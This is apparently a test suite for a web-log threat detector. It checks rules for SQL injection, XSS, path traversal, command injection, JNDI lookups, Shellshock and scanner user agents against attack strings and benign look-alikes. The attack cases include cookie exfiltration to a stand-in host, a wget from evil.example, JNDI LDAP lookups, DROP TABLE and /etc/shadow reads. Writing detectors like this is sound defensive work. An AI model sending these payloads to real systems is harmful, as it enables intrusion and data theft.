import fc from 'fast-check'
import { decodedParts } from '../../../recipes/kinesis-log-processor/decode.js'
import {
  bruteForceSources,
  detectThreats,
  type ThreatKind,
  threatRules,
} from '../../../recipes/kinesis-log-processor/threats.js'

const browser =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36'

interface Request {
  path: string
  userAgent?: string
}

/**
 * Per rule: attacks it must catch (as a client would send them: encoded, double-encoded, mixed case) and look-alike
 * benign requests that must raise no threat at all.
 */
const cases: Record<string, { attacks: Request[]; benign: Request[] }> = {
  'sql-union-select': {
    attacks: [
      { path: "/products?id=1'+UNION+SELECT+username,password+FROM+users--" },
      { path: '/products?id=1%20uNiOn%20AlL%20sElEcT%20null,null' },
      { path: '/products?id=1%2520UNION%2520SELECT%25201' },
      { path: '/products?id=1/**/UNION/**/SELECT/**/1,2' },
      // MySQL takes the SELECT in parentheses, with or without a space
      { path: '/products?id=1%20UNION(SELECT%20password%20FROM%20users)' },
      { path: '/products?id=1+UNION+ALL(SELECT+1)' },
      { path: '/products?id=1+union+distinct+(+(select+1))' },
    ],
    benign: [
      { path: '/blog/union-station-opens' },
      { path: '/search?q=select+a+plan' },
      { path: '/search?q=union+jobs' },
      { path: '/search?q=reunion(select+photos)' },
      { path: '/search?q=trade+union+(selected+essays)' },
      { path: '/search?q=union+(see+selection)' },
    ],
  },
  'sql-tautology': {
    attacks: [
      { path: "/login?user=admin'+OR+'1'='1" },
      { path: '/login?user=admin%27%20or%201%3D1' },
      { path: '/items?id=5+or+1=1' },
      { path: '/items?id=5%2527%2520OR%2520%2527a%2527%253D%2527a' },
    ],
    benign: [
      { path: "/search?q=rock+'n'+roll+or+jazz&sort=new" },
      { path: '/search?q=(cats)+and+dogs&sort=new' },
      { path: '/search?q=1%2B1%3D2' },
    ],
  },
  'sql-comment-terminator': {
    attacks: [{ path: "/login?user=admin'--&pass=x" }, { path: '/login?user=admin%27%29%23' }],
    benign: [{ path: "/products?name=O'Brien" }, { path: '/docs/command-line--flags' }],
  },
  'sql-constant-condition': {
    attacks: [
      { path: "/login?user=admin'+OR+1+--+&pass=x" },
      { path: "/login?user='||1%23" },
      { path: '/login?user=admin%22)%20or%20true%23' },
      { path: "/login?user=x'%26%26-1--+" },
    ],
    benign: [
      { path: "/search?q=rock+'n'+or+jazz+--+live" },
      { path: "/search?q=it's+1+or+2+%23hashtag" },
      { path: "/search?q='quoted'+or+1" },
      { path: '/docs/or-1--draft' },
    ],
  },
  'sql-stacked-query': {
    attacks: [{ path: '/items?id=1;DROP+TABLE+users' }, { path: '/items?id=1%3B%20dElEtE%20FrOm%20orders' }],
    benign: [{ path: '/search?q=drop+shipping' }, { path: '/notes?text=done;+update+the+docs+later' }],
  },
  'sql-function-probe': {
    attacks: [
      { path: "/items?id=1'+AND+SLEEP(5)--+" },
      { path: '/items?id=1+and+extractvalue(1,concat(0x7e,@@version))' },
      { path: '/items?id=-1+union+select+table_name+from+information_schema.tables' },
      { path: "/items?id=1;WAITFOR+DELAY+'0:0:5'" },
    ],
    benign: [{ path: '/blog/how-to-sleep-better' }, { path: '/docs/information-schema-explained' }],
  },
  'xss-script-tag': {
    attacks: [
      { path: '/search?q=<script>alert(1)</script>' },
      { path: '/search?q=%3CsCrIpT%3Ealert(1)%3C%2Fscript%3E' },
      { path: '/search?q=%253Cscript%253E' },
    ],
    benign: [{ path: '/docs/script-tags-explained' }, { path: '/search?q=javascript+description' }],
  },
  'xss-event-handler': {
    attacks: [
      { path: '/search?q=%3Cimg%20src%3Dx%20OnError%3Dalert(1)%3E' },
      { path: '/search?q=<svg/onload=alert(1)>' },
      { path: '/profile', userAgent: '<body onload=fetch("//x.example")>' },
    ],
    benign: [
      { path: '/search?q=online+onboarding' },
      { path: '/search?q=a<b+and+onion=3' },
      { path: '/search?q=<3+online' },
    ],
  },
  'xss-dangerous-tag': {
    attacks: [{ path: '/page?html=<iframe+src=//evil.example>' }, { path: '/page?x=%3CSVG%3E' }],
    benign: [{ path: '/images/logo.svg' }, { path: '/docs/iframe-embedding' }],
  },
  'xss-script-uri': {
    attacks: [
      { path: '/redirect?to=javascript:alert(document.domain)' },
      { path: '/redirect?to=JaVaScRiPt%3Aalert(1)' },
    ],
    benign: [{ path: '/search?q=javascript%3A+the+good+parts' }, { path: '/redirect?to=https://example.com/data' }],
  },
  'xss-dom-sink': {
    attacks: [
      { path: '/comment?text=%22%3Balert(1)%2F%2F' },
      { path: '/x?cb=fetch(%27//e.example/%27%2Bdocument.cookie)' },
      { path: '/x?q=String.fromCharCode(88,83,83)' },
    ],
    benign: [{ path: '/docs/alerting' }, { path: '/search?q=cookie+policy' }],
  },
  'traversal-dot-segments': {
    attacks: [
      { path: '/static/../../../../etc/shadow' },
      { path: '/download?file=..%2F..%2Fconfig.yml' },
      { path: '/download?file=..%252F..%252Fapp.js' },
      { path: '/download?file=..%5C..%5Cweb.config' },
      { path: '/app/..;/manager/html' },
    ],
    benign: [{ path: '/files/report..final.pdf' }, { path: '/search?q=wait...' }],
  },
  'traversal-overlong-encoding': {
    attacks: [{ path: '/static/..%c0%af..%c0%afsecret' }, { path: '/scripts/..%u2215..%u2215x' }],
    benign: [{ path: '/caf%C3%A9/menu' }, { path: '/search?q=%E2%82%AC' }],
  },
  'traversal-system-file': {
    attacks: [{ path: '/download?file=/etc/passwd' }, { path: '/view?page=%2Fproc%2Fself%2Fenviron' }],
    benign: [{ path: '/blog/etc/passwords-best-practices' }, { path: '/docs/etcd/hosting' }],
  },
  'traversal-null-byte': {
    attacks: [{ path: '/view?page=report.pdf%00.png' }, { path: '/img/a%2500.jpg' }],
    benign: [{ path: '/view?page=report100.pdf' }, { path: '/img/a00.jpg' }],
  },
  'cmd-chained-command': {
    attacks: [
      { path: '/ping?host=127.0.0.1;cat+/etc/hostname' },
      { path: '/ping?host=127.0.0.1%7C%7Cid' },
      { path: '/ping?host=x%0Auname+-a' },
      { path: '/ping?host=x%26%26WGET+http://evil.example/x' },
    ],
    benign: [
      { path: '/search?q=pets;+cat+food' },
      { path: '/search?q=cat+%7C+dog' },
      { path: '/search?q=tom+%26+jerry' },
      { path: '/search?q=red;+ping+pong' },
    ],
  },
  'cmd-substitution': {
    attacks: [{ path: '/ping?host=$(whoami)' }, { path: '/ping?host=%60id%60' }, { path: `/ping?host=x\${IFS}y` }],
    benign: [{ path: '/prices?q=$100' }, { path: '/search?q=(money)' }],
  },
  'cmd-jndi-lookup': {
    attacks: [
      { path: '/', userAgent: `\${jndi:ldap://evil.example/a}` },
      { path: '/?x=%24%7BjNdI%3Aldap%3A%2F%2Fe.example%2Fa%7D' },
      { path: '/', userAgent: `\${\${lower:j}ndi:ldap://evil.example/a}` },
    ],
    benign: [{ path: '/docs/templates?syntax=%7Bname%7D' }, { path: '/', userAgent: 'JNDI-Explorer/1.0' }],
  },
  'cmd-shellshock': {
    attacks: [{ path: '/cgi-bin/status', userAgent: '() { :; }; /bin/bash -c "id"' }],
    benign: [{ path: '/cgi-bin/status', userAgent: 'curl/8.5.0' }],
  },
  'scanner-user-agent': {
    attacks: [
      { path: '/', userAgent: 'sqlmap/1.8.2#stable (https://sqlmap.org)' },
      { path: '/', userAgent: 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)' },
      {
        path: '/',
        userAgent: 'Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))',
      },
    ],
    benign: [
      { path: '/', userAgent: browser },
      { path: '/', userAgent: 'Googlebot/2.1 (+http://www.google.com/bot.html)' },
      { path: '/', userAgent: 'HydraulicsCatalog/3.1' },
    ],
  },
}

const shared: Request[] = [
  { path: '/search?q=select+a+plan' },
  { path: '/api/users?sort=-created&limit=10' },
  { path: '/wiki/Semicolon;_uses' },
  { path: '/search?q=who+am+i' },
  { path: '/', userAgent: browser },
  { path: '/', userAgent: 'Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0' },
  { path: '/', userAgent: 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148' },
  { path: '/a%ZZb?x=%' },
]

const detect = (request: Request) => detectThreats({ path: request.path, userAgent: request.userAgent ?? browser })

describe('threat rules', () => {
  it('has a case list for every rule, and a rule for every case list', () => {
    expect(Object.keys(cases).sort()).toEqual(threatRules.map((rule) => rule.rule).sort())
  })

  describe.each(threatRules.map((rule) => [rule.rule, rule] as const))('%s', (name) => {
    const { attacks, benign } = cases[name] ?? { attacks: [], benign: [] }

    it.each(attacks.map((request) => [request.userAgent ?? request.path, request] as const))(
      'catches %s',
      (_label, request) => {
        expect(detect(request).map((threat) => threat.rule)).toContain(name)
      },
    )

    it.each(benign.map((request) => [request.userAgent ?? request.path, request] as const))(
      'raises nothing for %s',
      (_label, request) => {
        expect(detect(request)).toEqual([])
      },
    )
  })

  it.each(shared.map((request) => [request.userAgent ?? request.path, request] as const))(
    'raises nothing for the everyday request %s',
    (_label, request) => {
      expect(detect(request)).toEqual([])
    },
  )

  it('reports the kind and the field that matched, each rule once', () => {
    expect(detect({ path: '/x?a=<script>&b=<script>', userAgent: 'sqlmap/1.8' })).toEqual([
      { kind: 'xss', rule: 'xss-script-tag', field: 'query' },
      { kind: 'scanner', rule: 'scanner-user-agent', field: 'userAgent' },
    ])
    expect(detect({ path: '/../etc/passwd' })).toEqual([
      { kind: 'path-traversal', rule: 'traversal-dot-segments', field: 'path' },
      { kind: 'path-traversal', rule: 'traversal-system-file', field: 'path' },
    ])
  })

  it('covers every kind the issue asks for', () => {
    const kinds = new Set<ThreatKind>(threatRules.map((rule) => rule.kind))
    expect([...kinds].sort()).toEqual(['command-injection', 'path-traversal', 'scanner', 'sql-injection', 'xss'])
  })

  it('never throws, whatever the path and user agent', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 300 }), fc.string({ maxLength: 300 }), (path, userAgent) => {
        expect(Array.isArray(detectThreats({ path, userAgent }))).toBe(true)
      }),
      { numRuns: 2000 },
    )
  })
})

describe('decodedParts', () => {
  it('decodes as a server would: percent-encoding until stable, + as space in the query only, lower case', () => {
    expect(decodedParts('/A%2BB/%252e%252e?Q=a+b%2Bc', 'X%41')).toEqual({
      path: '/a+b/..',
      query: 'q=a b+c',
      userAgent: 'xa',
    })
  })

  it('keeps invalid escapes and invalid UTF-8 without throwing', () => {
    expect(decodedParts('/%E0%A4%A?%', '%').path).toBe('/\ufffd%a')
  })
})

describe('bruteForceSources', () => {
  const events = [
    ...Array.from({ length: 10 }, () => ({ ip: '203.0.113.9', status: 401 })),
    ...Array.from({ length: 9 }, () => ({ ip: '198.51.100.4', status: 403 })),
    { ip: '198.51.100.4', status: 200 },
    ...Array.from({ length: 30 }, () => ({ ip: '192.0.2.1', status: 404 })),
  ]

  it('names the IPs with at least the threshold of 401/403 responses in the batch, with their count', () => {
    expect(bruteForceSources(events, 10)).toEqual(new Map([['203.0.113.9', 10]]))
    expect(bruteForceSources(events, 9)).toEqual(
      new Map([
        ['203.0.113.9', 10],
        ['198.51.100.4', 9],
      ]),
    )
  })

  it('ignores other error statuses', () => {
    expect(bruteForceSources(events, 1).has('192.0.2.1')).toBe(false)
  })
})
